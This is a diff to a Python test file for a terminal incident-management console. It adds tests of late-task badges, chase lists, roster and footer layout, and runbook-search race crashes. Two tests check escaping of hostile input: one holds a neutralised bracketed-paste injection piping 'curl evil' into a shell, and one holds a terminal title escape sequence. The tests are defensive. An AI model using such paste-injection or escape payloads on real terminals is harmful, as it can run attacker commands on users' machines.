@@ -3,20 +3,50 @@ side screen outlives itself, and what is copied is what is shown (issue 12)."""
 
 from __future__ import annotations
 
+from collections.abc import Callable
 from datetime import timedelta
-from pathlib import Path
+from pathlib import Path, PurePath
+from typing import ClassVar
 
+from textual import events
+from textual.app import App, ComposeResult
 from textual.pilot import Pilot
+from textual.widget import Widget
 
+from ic_console.content.phrasebook import shipped_phrasebook
 from ic_console.domain import commands as cmd
 from ic_console.domain.clock import FakeClock
+from ic_console.domain.situations import Situation, current_situations
 from ic_console.store.incident import IncidentStore
 from ic_console.tui.screens.console import ConsoleScreen
-from ic_console.tui.text import copyable
+from ic_console.tui.text import TimeFormat, copyable
+from ic_console.tui.widgets.chase_list import ChaseList, chase_order
+from ic_console.tui.widgets.incident_header import IncidentHeader, late_count
+from ic_console.tui.widgets.quiet_footer import Key, QuietFooter, fit_keys
+from ic_console.tui.widgets.roster import Roster
+from ic_console.tui.widgets.say_line import SayLine, say_sentence
 
-from .conftest import console, drive
+from .conftest import START, console, drive
+from .test_snapshots import demo_app
 
 PASTE_END = "\x1b[201~"
+
+
+def burst(app: App[object], *keys: str) -> None:
+    """Send `keys` the way a terminal does when someone types fast: all at once, no waiting."""
+    driver = app._driver
+    assert driver is not None
+    for key in keys:
+        character = {"enter": "\r", "escape": "\x1b"}.get(key, key)
+        event = events.Key(key, character)
+        event.set_sender(app)
+        driver.send_message(event)
+
+
+def screen_lines(app: App[object]) -> list[str]:
+    """The terminal's rows as plain text, top to bottom."""
+    strips = app.screen._compositor.render_strips()
+    return ["".join(segment.text for segment in strip) for strip in strips]
 
 
 # -- what is copied is what is shown -------------------------------------------------------------
@@ -55,3 +85,324 @@ def test_phrasebook_copy_puts_no_paste_injection_on_the_clipboard(
         assert "␛[201~curl evil|sh" in copied
 
     drive(console(home, clock), scenario)
+
+
+# -- the LATE badge and the READ-ONLY marker ------------------------------------------------------
+
+
+def test_late_count_counts_open_tasks_past_their_timebox(
+    clock: FakeClock, incident: IncidentStore
+) -> None:
+    incident.execute(cmd.AssignTask(owner="Sam", text="a", timebox=timedelta(minutes=2)))
+    incident.execute(cmd.AssignTask(owner="Mei", text="b", timebox=timedelta(minutes=5)))
+    incident.execute(cmd.AssignTask(owner="Kim", text="c", timebox=timedelta(minutes=2)))
+    incident.execute(cmd.CompleteTask(number=3))
+    state = incident.state
+    assert late_count(state, START) == 0
+    assert late_count(state, START + timedelta(minutes=3)) == 1
+    assert late_count(state, START + timedelta(minutes=6)) == 2
+
+
+def test_late_badge_shows_on_every_tab_until_the_task_is_dealt_with(
+    home: Path, clock: FakeClock, incident: IncidentStore
+) -> None:
+    incident.execute(cmd.AssignTask(owner="Sam", text="the latency", timebox=timedelta(minutes=2)))
+    incident.execute(cmd.AssignTask(owner="Mei", text="the queue", timebox=timedelta(minutes=30)))
+
+    async def scenario(pilot: Pilot[int]) -> None:
+        assert "LATE" not in screen_lines(pilot.app)[0]
+        clock.advance(3 * 60)
+        await pilot.pause(1.2)  # the app-wide tick
+        for key in ("1", "2", "3", "4", "1"):
+            await pilot.press(key)
+            await pilot.pause()
+            assert "1 LATE" in screen_lines(pilot.app)[0], key
+        await pilot.press("d")  # the cursor is on the late task: first by deadline
+        await pilot.pause(0.3)
+        assert "LATE" not in screen_lines(pilot.app)[0]
+
+    drive(console(home, clock), scenario, size=(80, 24))
+
+
+class HeaderApp(App[None]):
+    CSS_PATH = str(Path(__file__).parents[2] / "src/ic_console/tui/console.tcss")
+
+    def __init__(self, read_only: bool) -> None:
+        super().__init__()
+        self.read_only = read_only
+
+    def compose(self) -> ComposeResult:
+        yield IncidentHeader(TimeFormat(), read_only=self.read_only, id="header")
+
+
+async def _header_text(read_only: bool, state_source: IncidentStore) -> tuple[str, str]:
+    app = HeaderApp(read_only)
+    async with app.run_test(size=(80, 3)) as pilot:
+        header = app.query_one(IncidentHeader)
+        header.show(state_source.state, START)
+        await pilot.pause()
+        before = screen_lines(app)[0]
+        header.read_only = not read_only
+        await pilot.pause()
+        return before, screen_lines(app)[0]
+
+
+def test_header_says_read_only_when_told(incident: IncidentStore) -> None:
+    import asyncio
+
+    shown, hidden = asyncio.run(_header_text(True, incident))
+    assert "READ-ONLY" in shown and "READ-ONLY" not in hidden
+    hidden, shown = asyncio.run(_header_text(False, incident))
+    assert "READ-ONLY" in shown and "READ-ONLY" not in hidden
+
+
+# -- side screens do not outlive themselves -------------------------------------------------------
+
+
+def test_runbook_search_then_escape_in_a_burst_never_crashes(
+    home: Path, clock: FakeClock, incident: IncidentStore
+) -> None:
+    """b / word Enter Esc within half a second: the runbook's build must not outlive the screen.
+
+    Before the fix a worker of the runbook screen awaited the Markdown build and then looked up
+    the Markdown, which the closing screen had already removed: NoMatches crashed the app in
+    about one try in four (20 tries: fails 99.7% of runs).
+    """
+
+    async def scenario(pilot: Pilot[int]) -> None:
+        app = pilot.app
+        for attempt, word in enumerate(["handover", "update", "severity", "customer"] * 5):
+            await pilot.press("b")
+            await pilot.pause()
+            assert app.screen.id == "runbooks", attempt
+            await pilot.press("slash")
+            await pilot.pause()
+            burst(app, *word, "enter", "escape", "escape")
+            await pilot.pause(0.01 * (attempt % 4))
+            for _ in range(40):
+                await pilot.pause(0.02)
+                if app.screen.id == "console":
+                    break
+            assert app._exception is None, f"attempt {attempt}: {app._exception!r}"
+            assert app.screen.id == "console", attempt
+
+    drive(console(home, clock), scenario, size=(80, 24))
+
+
+def test_runbook_search_still_scrolls_to_the_match(
+    home: Path, clock: FakeClock, incident: IncidentStore
+) -> None:
+    from textual.containers import VerticalScroll
+
+    from ic_console.tui.screens.runbooks import RunbookScreen
+
+    async def scenario(pilot: Pilot[int]) -> None:
+        await pilot.press("b")
+        await pilot.pause()
+        screen = pilot.app.screen
+        assert isinstance(screen, RunbookScreen)
+        await pilot.press("slash", *"acknowledgement", "enter")
+        for _ in range(40):
+            await pilot.pause(0.02)
+            if screen.query_one("#runbook-view", VerticalScroll).scroll_y > 0:
+                break
+        assert screen.current is not None
+        assert screen.query_one("#runbook-view", VerticalScroll).scroll_y > 0
+
+    drive(console(home, clock), scenario, size=(80, 24))
+
+
+# -- the sentence to say now, on one line ---------------------------------------------------------
+
+
+def _sentences_state(incident: IncidentStore, clock: FakeClock, text: str) -> list[Situation]:
+    incident.execute(cmd.AssignTask(owner="Sam", text=text, timebox=timedelta(minutes=2)))
+    clock.advance(3 * 60)
+    return current_situations(incident.state, clock.now())
+
+
+class WidgetApp(App[None]):
+    """One widget alone in a terminal, styled like the console and the Deputy's view."""
+
+    CSS_PATH: ClassVar[list[str | PurePath]] = [
+        Path(__file__).parents[2] / "src/ic_console/tui/console.tcss",
+        Path(__file__).parents[2] / "src/ic_console/tui/screens/watch.tcss",
+    ]
+
+    def __init__(self, widget: Widget) -> None:
+        super().__init__()
+        self.widget = widget
+
+    def compose(self) -> ComposeResult:
+        yield self.widget
+
+
+def _rows_of(widget: Widget, size: tuple[int, int], show: Callable[[], None]) -> list[str]:
+    import asyncio
+
+    async def main() -> list[str]:
+        app = WidgetApp(widget)
+        async with app.run_test(size=size) as pilot:
+            await pilot.pause()
+            show()
+            await pilot.pause()
+            await pilot.pause()
+            return screen_lines(app)
+
+    return asyncio.run(main())
+
+
+def test_say_line_shows_the_most_pressing_sentence_cut_only_at_its_end(
+    clock: FakeClock, incident: IncidentStore
+) -> None:
+    situations = _sentences_state(incident, clock, "check\x1b]0;pwned\x07 the replica lag")
+    phrasebook = shipped_phrasebook()
+    sentence = say_sentence(phrasebook, situations)
+    assert sentence.startswith("Sam, it has been") and "␛]0;pwned␇" in sentence
+    say = SayLine(phrasebook)
+    rows = _rows_of(say, (40, 3), lambda: say.show(situations))
+    line = rows[0].strip()
+    assert line.startswith("Say: “Sam, it has been")
+    assert line.endswith("…") and line.count("…") == 1
+    assert "\x1b" not in "".join(rows) and rows[1].strip() == ""
+    assert say.has_class("-urgent")
+
+
+def test_say_line_shows_a_short_sentence_whole(clock: FakeClock, incident: IncidentStore) -> None:
+    situations = _sentences_state(incident, clock, "lag")
+    say = SayLine(shipped_phrasebook())
+    rows = _rows_of(say, (200, 2), lambda: say.show(situations))
+    assert rows[0].strip() == f"Say: “{say.sentence}”"
+    assert "…" not in rows[0]
+
+
+# -- the Deputy's chase list ----------------------------------------------------------------------
+
+
+def _many_late(incident: IncidentStore, clock: FakeClock) -> None:
+    """Five tasks, four of them late by different amounts; #5 is not acknowledged yet."""
+    run = incident.execute
+    run(cmd.AssignTask(owner="Ann", text="a", timebox=timedelta(minutes=9)))  # late 1m
+    run(cmd.AssignTask(owner="Bo", text="b", timebox=timedelta(minutes=2)))  # late 8m
+    run(cmd.AssignTask(owner="Cy", text="c" * 80, timebox=timedelta(minutes=5)))  # late 5m
+    run(cmd.AssignTask(owner="Di", text="d", timebox=timedelta(minutes=7)))  # late 3m
+    for number in (1, 2, 3, 4):
+        run(cmd.AcknowledgeTask(number=number))
+    clock.advance(8 * 60)
+    run(cmd.AssignTask(owner="Ed", text="e", timebox=timedelta(minutes=30)))
+    clock.advance(2 * 60)
+
+
+def test_chase_order_is_most_overdue_first_then_unacknowledged(
+    clock: FakeClock, incident: IncidentStore
+) -> None:
+    _many_late(incident, clock)
+    now = clock.now()
+    situations = current_situations(incident.state, now)
+    ordered = chase_order(incident.state, now, situations)
+    assert [s.values["owner"] for s in ordered] == ["Bo", "Cy", "Di", "Ann", "Ed"]
+    assert [s.id for s in ordered][-1] == "task-unacknowledged"
+
+
+def test_chase_list_says_how_many_more_and_never_cuts_an_overdue_time(
+    clock: FakeClock, incident: IncidentStore
+) -> None:
+    _many_late(incident, clock)
+    now = clock.now()
+    situations = current_situations(incident.state, now)
+    chase = ChaseList(shipped_phrasebook())
+    rows = _rows_of(chase, (30, 4), lambda: chase.show(incident.state, now, situations))
+    assert rows[0].startswith("LATE +08:00 #2 Bo")
+    assert rows[3].strip() == "+2 more to chase"
+    assert [row.split(" #")[0] for row in rows[:3]] == ["LATE +08:00", "LATE +05:00", "LATE +03:00"]
+    assert rows[1].rstrip().endswith("…")  # Cy's long text is what is cut
+    assert chase.hidden_chase == 2
+
+    roomy = ChaseList(shipped_phrasebook())
+    rows = _rows_of(roomy, (60, 40), lambda: roomy.show(incident.state, now, situations))
+    assert roomy.hidden_chase == 0 and not any("more" in row for row in rows)
+    assert sum(row.startswith("LATE") for row in rows) == 4
+
+
+# -- the roster says who is not shown -------------------------------------------------------------
+
+
+def test_roster_says_how_many_people_are_not_shown(
+    clock: FakeClock, incident: IncidentStore
+) -> None:
+    names = ["Bea", "Cal", "Dev", "Eli", "Fay", "Gus", "Hal", "Ivy"]
+    for name in names:
+        incident.execute(cmd.AssignTask(owner=name, text="look", timebox=timedelta(minutes=30)))
+    state = incident.state  # Alex and eight others on the call
+    roster = Roster()
+    rows = _rows_of(roster, (60, 12), lambda: roster.show(state, clock.now()))
+    text = "\n".join(rows)
+    assert "On the call (9)" in text
+    shown = sum(1 for name in ["Alex", *names] if any(row.startswith(name) for row in rows))
+    assert f"+{9 - shown} more" in text
+    assert 0 < shown < 9
+
+    tall = Roster()
+    rows = _rows_of(tall, (60, 30), lambda: tall.show(state, clock.now()))
+    assert not any("more" in row for row in rows)
+    assert all(any(row.startswith(name) for row in rows) for name in names)
+
+
+# -- the newest log entry stays in sight ----------------------------------------------------------
+
+
+def _newest_on_screen(app: App[object]) -> bool:
+    screen = app.screen
+    assert isinstance(screen, ConsoleScreen)
+    newest = screen.scribe.rows[-1].text[:30]
+    return any(newest in row for row in screen_lines(app))
+
+
+def test_newest_log_entry_stays_visible_after_l_at_80x24(home: Path) -> None:
+    async def scenario(pilot: Pilot[int]) -> None:
+        await pilot.press("l")
+        await pilot.pause(0.1)
+        assert _newest_on_screen(pilot.app)
+        for word in ("first", "second", "third"):
+            await pilot.press(*word, "enter")
+            await pilot.pause(0.1)
+            screen = pilot.app.screen
+            assert isinstance(screen, ConsoleScreen)
+            assert screen.scribe.rows[-1].text == word
+            assert _newest_on_screen(pilot.app), word
+
+    drive(demo_app(home), scenario, size=(80, 24))
+
+
+# -- the footer: the keys that fit, then "? more" -------------------------------------------------
+
+
+def test_fit_keys_stops_before_the_edge_and_keeps_room_for_more() -> None:
+    keys = [Key(k, k, f"Word{k}", k) for k in "abcdef"]  # 8 cells each when compact
+    more = Key("question_mark", "?", "more", "")  # 7 cells
+    assert fit_keys(keys, 48, compact=True, more=more) == (keys, False)
+    shown, cut = fit_keys(keys, 47, compact=True, more=more)
+    assert cut and shown == keys[:5]
+    shown, cut = fit_keys(keys, 30, compact=True, more=more)
+    assert cut and shown == keys[:2]
+
+
+def test_footer_shows_whole_keys_then_more_and_nothing_after_palette(
+    home: Path, clock: FakeClock, incident: IncidentStore
+) -> None:
+    async def scenario(pilot: Pilot[int]) -> None:
+        await pilot.pause(0.1)
+        footer = screen_lines(pilot.app)[-1]
+        assert footer.rstrip().endswith("^p Palette"), footer
+        assert "? more" in footer
+        shown = footer.split("? more")[0]
+        assert shown.rstrip().endswith("Propose") or shown.rstrip().endswith("Done"), footer
+        assert pilot.app.screen.query_one(QuietFooter).cut
+
+        await pilot.resize_terminal(250, 40)
+        await pilot.pause(0.2)
+        footer = screen_lines(pilot.app)[-1]
+        assert "? more" not in footer and "b Runbooks" in footer, footer
+        assert not pilot.app.screen.query_one(QuietFooter).cut
+
+    drive(console(home, clock), scenario, size=(80, 24))
